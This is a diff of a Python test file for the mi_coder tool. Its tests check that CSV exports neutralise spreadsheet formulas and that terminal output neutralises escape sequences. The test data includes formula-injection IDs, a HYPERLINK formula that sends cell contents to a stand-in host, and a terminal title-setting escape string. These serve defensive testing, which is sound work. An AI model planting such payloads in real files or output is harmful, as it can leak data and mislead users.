@@ -1,23 +1,30 @@
 """CSV files that people open in a spreadsheet: nothing in them runs as a formula, and it comes back as it was.
 
-These are the tables of `mi-code profile`, the chances of `mi-code power` and the tables of study reports; tagged chats
-are tested in `test_formats_tables`.
+These are the tables of `mi-code profile`, files of codes, samples, the chances of `mi-code power` and the tables of
+study reports; tagged chats are tested in `test_formats_tables`.
 """
 
 import csv
 import json
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 from click.testing import CliRunner, Result
 
+from mi_coder.annotation.codings import read_units
+from mi_coder.annotation.exports import Coded
+from mi_coder.annotation.pull import write_codings
+from mi_coder.annotation.pull_of_suggestions import read_choices
+from mi_coder.annotation.sample_file import read_ids, read_sample
 from mi_coder.cli.main import group
+from mi_coder.corpora.standoff import read_standoff
 from mi_coder.formats.guard import unguard
 from mi_coder.measures.writing import write_rows
-from tests.chats import nested_records, write_jsonl
+from tests.chats import nested_records, read_jsonl, write_jsonl
 
-IDS = ["=1+1", "+1", "-1", "@SUM(A1)", "'=1+1", " =1", "plain", "\tx"]
+IDS = ["=1+1", "+1", "-1", "@SUM(A1)", "'=1+1", " =1", "'quoted'", "\tx"]
 OPEN = '=HYPERLINK("http://a.example/?x="&A1,"open")'
 COUNSELORS = [OPEN, "ann", "+49 30 1"]
 
@@ -53,6 +60,24 @@ def test_rows_keep_numbers_and_guard_texts_and_names(tmp_path: Path) -> None:
     assert json.loads((tmp_path / "a.jsonl").read_bytes()) == rows[0]
     write_rows(tmp_path / "none.csv", [])
     assert (tmp_path / "none.csv").read_bytes() == b"\n"
+
+
+@pytest.mark.parametrize("ending", ["csv", "jsonl"])
+def test_rows_may_come_one_by_one_and_a_file_is_whole_or_not_there(ending: str, tmp_path: Path) -> None:
+    rows = [{"who": who, "n": n, "same": n == 1} for who in ("=1", "1", "1.0") for n in (0, 1)]
+    for name, given in (("all", rows), ("each", iter(rows))):
+        write_rows(tmp_path / f"{name}.{ending}", given)
+    assert (tmp_path / f"all.{ending}").read_bytes() == (tmp_path / f"each.{ending}").read_bytes()
+    if ending == "csv":
+        assert cells(tmp_path / "each.csv")[1:3] == [["'=1", "0", "False"], ["'=1", "1", "True"]]
+
+    def broken() -> Iterator[dict[str, object]]:
+        yield from rows
+        raise ValueError("no more")
+
+    with pytest.raises(ValueError, match="no more"):
+        write_rows(tmp_path / f"broken.{ending}", broken())
+    assert sorted(path.name for path in tmp_path.iterdir()) == [f"all.{ending}", f"each.{ending}"]
 
 
 @pytest.fixture
@@ -96,6 +121,78 @@ def test_ids_of_a_table_of_outcomes_match_guarded_or_not(tagged: Path, tmp_path:
             csv.writer(file).writerows([("conversation_id", "site"), *rows])
         chats = read_chats(Data(counts="c.csv", outcomes="outcomes.csv"), tmp_path)
         assert list(chats.frame.index) == ["=1+1", "@SUM(A1)"] and set(chats.frame["site"]) == {OPEN}
+
+
+def coded(name: str, coder: str, **more: Any) -> Coded:
+    number = 100 * IDS.index(name) + len(coder)
+    return Coded(
+        conversation_id=name, index=0, text_hash="", codes=("OQ",), coder=coder, project=1, annotation=number, **more
+    )
+
+
+def test_pulled_codes_run_nothing_and_are_read_back(tmp_path: Path) -> None:
+    told: dict[str, Any] = {"own": ("+A", "B"), "comment": OPEN, "suggestion": "shown", "suggested": ("OQ",)}
+    codings = [coded(name, coder, **told) for name in IDS for coder in COUNSELORS]
+    write_codings(tmp_path / "codes.csv", codings, "=1", "schema")
+    written = cells(tmp_path / "codes.csv")
+    assert not [cell for row in written for cell in row if runs(cell)]
+    assert unguard(written[1][written[0].index("comment")]) == OPEN
+    read = list(read_standoff(tmp_path / "codes.csv"))
+    assert [(one.conversation_id, one.coder, one.round) for one in read] == [
+        (name, coder, "=1") for name in IDS for coder in COUNSELORS
+    ]
+    units = read_units([tmp_path / "codes.csv"])
+    assert {unit.conversation for unit in units} == set(IDS)
+    assert {given.own for unit in units for given in unit.given} == {frozenset({"A", "B"})}
+    assert {one.conversation for one in read_choices([tmp_path / "codes.csv"])[0]} == set(IDS)
+
+
+def test_settled_codes_run_nothing_and_are_read_back(tmp_path: Path) -> None:
+    for coder in ("ann", "=ben"):
+        write_codings(tmp_path / f"{coder}.csv", [coded(name, coder) for name in IDS], "1", "schema")
+    gold, again, chats = (tmp_path / name for name in ("gold.csv", "again.csv", "chats.gold.jsonl"))
+    run("adjudicate", "settle", tmp_path / "ann.csv", tmp_path / "=ben.csv", "-o", gold)
+    assert not [cell for row in cells(gold) for cell in row if runs(cell)]
+    assert [one.conversation_id for one in read_standoff(gold)] == IDS
+    run("adjudicate", "settle", gold, "-o", again)
+    assert [row[0] for row in cells(again)] == [row[0] for row in cells(gold)]
+    said = [{"role": "counselor", "text": "What brings you here?"}]
+    write_jsonl(tmp_path / "chats.jsonl", [{"conversation_id": name, "messages": said} for name in IDS])
+    run("studio", "gold", tmp_path / "chats.jsonl", gold, "-o", chats)
+    records = read_jsonl(chats)
+    assert [(each["conversation_id"], each["messages"][0]["gold"]["codes"]) for each in records] == [
+        (name, ["OQ"]) for name in IDS
+    ]
+
+
+def test_terminals_obey_no_name(tagged: Path, tmp_path: Path) -> None:
+    name, shown = "ann\x1b]0;pwn\x07", r"ann\x1b]0;pwn\x07"
+    chats = read_jsonl(tagged)
+    write_jsonl(tagged, [chat | {"counselor_id": name} for chat in chats])
+    write_codings(
+        tmp_path / "codes.csv", [coded(each, coder) for each in IDS for coder in (name, "ben")], "1", "schema"
+    )
+    for told in (
+        run("profile", tagged, "--by", "counselor_id"),
+        run("agreement", tmp_path / "codes.csv", "--by", "pair"),
+    ):
+        assert shown in told.output and not {"\x1b", "\x07"} & set(told.output)
+
+
+def test_samples_run_nothing_and_are_read_back(tagged: Path, tmp_path: Path) -> None:
+    first, rest = tmp_path / "first.csv", tmp_path / "rest.csv"
+    design = ("--design", "stratified", "--by", "counselor_id", "--unit", "conversation")
+    run("sample", "draw", tagged, "-o", first, "--n", 4, *design)
+    assert not [cell for row in cells(first) for cell in row if runs(cell)]
+    drawn = read_sample(first)
+    names = {row.conversation_id for row in drawn}
+    assert len(names) == 4 and names < set(IDS)
+    assert {row.stratum for row in drawn} <= set(COUNSELORS)
+    strata = json.loads((tmp_path / "first.csv.meta.json").read_bytes())["strata"]
+    assert set(strata) == set(COUNSELORS)
+    assert read_ids(first) == {f"{row.conversation_id}#{row.index}" for row in drawn}
+    run("sample", "draw", tagged, "-o", rest, "--n", 4, "--unit", "conversation", "--exclude", first)
+    assert {row.conversation_id for row in read_sample(rest)} == set(IDS) - names
 
 
 def test_chances_of_power_run_nothing_and_are_read_back(tmp_path: Path) -> None:
